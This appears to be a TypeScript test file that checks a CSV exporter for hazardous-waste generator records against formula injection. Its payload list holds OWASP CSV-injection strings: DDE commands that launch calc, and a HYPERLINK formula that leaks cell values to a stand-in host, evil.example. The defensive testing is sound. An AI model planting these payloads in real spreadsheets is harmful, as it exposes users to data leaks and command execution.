/**
 * CSV injection: the OWASP payloads, written as generator names through the CSV writer, read back by an
 * independent CSV reader (SheetJS) splitting on `,`, on `;` and on tab, as Excel does in different locales.
 * No reading may find a formula, or a text cell that a spreadsheet would take for one.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as XLSX from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GENERATOR_COLUMNS } from '../../../shared/columns.ts';
import { csvCell, guardFormulas } from '../../../main/src/export/csv-cells.ts';
import type { ExportPage } from '../../../main/src/export/grid-file.ts';
import { writeRecords } from './write-records.ts';

/** OWASP's CSV Injection page and its cheat sheet, with the separator tricks that motivated the rule. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `+9+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=1+2";=1+2`,
  `"=1+2";=1+2`,
  `%0A-3+3+cmd|' /C calc'!D2`,
  `;-3+3+cmd|' /C calc'!D2`,
  `\t=1+1`,
  `\r=1+1`,
  ` =1+1`,
  `x;=HYPERLINK("http://evil.example","click")`,
  `x,=1+1`,
  `x\t=1+1`,
  `x|=1+1`,
  `x\n=1+1`,
  `x;"=1+1`,
  `Acme; Inc.`,
  `Smith, Jones & Co`,
];

const WRITTEN = GENERATOR_COLUMNS.filter((column) =>
  ['epa_handler_id', 'generator_name', 'total_waste'].includes(column.field),
);

let folder: string;
let text: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'csv-cells-'));
  const path = join(folder, 'generators.csv');
  const page: ExportPage = {
    totalElements: PAYLOADS.length,
    rows: PAYLOADS.map((name, index) => ({
      epa_handler_id: `CAD${index}`,
      generator_name: name,
      total_waste: -index - 1,
    })),
  };
  async function* pages() {
    await Promise.resolve();
    yield page;
  }
  await writeRecords(
    path,
    { format: 'csv', sheetName: 'Generators', columns: WRITTEN, wasteLines: false, describe: () => [] },
    pages(),
    { signal: new AbortController().signal, onProgress: () => undefined, spillPath: join(folder, 'x.cells') },
  );
  text = (await readFile(path, 'utf8')).replace(/^\uFEFF/, '');
});

afterAll(async () => {
  await rm(folder, { recursive: true, force: true });
});

function cells(separator: string): XLSX.CellObject[] {
  const book = XLSX.read(text, { type: 'string', FS: separator, cellFormula: true });
  const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
  return Object.entries(sheet)
    .filter(([address]) => !address.startsWith('!'))
    .map(([, cell]) => cell as XLSX.CellObject);
}

describe('CSV read with any separator', () => {
  it.each([
    [',', 'comma'],
    [';', 'semicolon'],
    ['\t', 'tab'],
  ])('holds no formula when read with %j (%s)', (separator) => {
    const read = cells(separator);
    expect(read.length).toBeGreaterThan(PAYLOADS.length);
    for (const cell of read) {
      expect(cell.f, JSON.stringify(cell)).toBeUndefined();
      if (cell.t === 's') expect(String(cell.v), JSON.stringify(cell)).not.toMatch(/^[\s"]*[=+@-]/);
    }
  });

  it('reads back, split on commas, one row per generator with its name guarded and nothing else changed', () => {
    const book = XLSX.read(text, { type: 'string', FS: ',', raw: true });
    const rows = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets[book.SheetNames[0] ?? ''] ?? {}, {
      header: 1,
      raw: true,
    });
    expect(rows[0]).toEqual(['EPA ID', 'Name', 'Total waste (tons)']);
    // A cell's text is trimmed before it is written (cells.ts), then guarded.
    expect(rows.slice(1).map((row) => row[1])).toEqual(PAYLOADS.map((name) => guardFormulas(name.trim())));
    expect(rows.slice(1).map((row) => row[2])).toEqual(PAYLOADS.map((_, index) => String(-index - 1)));
  });
});

describe('the CSV cell rule', () => {
  it.each([
    ['=1+1', `'=1+1`],
    ['-5 tons', `'-5 tons`],
    ['x;=1', `"x;'=1"`],
    ['x, -1', `"x,' -1"`],
    ['a|@b', `"a|'@b"`],
    ['\thello', `"'\thello"`],
    ['Acme, "West"', `"Acme, ""West"""`],
    ['Acme Inc.', 'Acme Inc.'],
    ['a-b=c', 'a-b=c'],
  ])('writes %j as %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('writes numbers and dates plain, a negative number included', () => {
    expect(csvCell(-2.5)).toBe('-2.5');
    expect(csvCell(new Date(Date.UTC(2024, 1, 29)))).toBe('2024-02-29');
    expect(csvCell(null)).toBe('');
  });
});
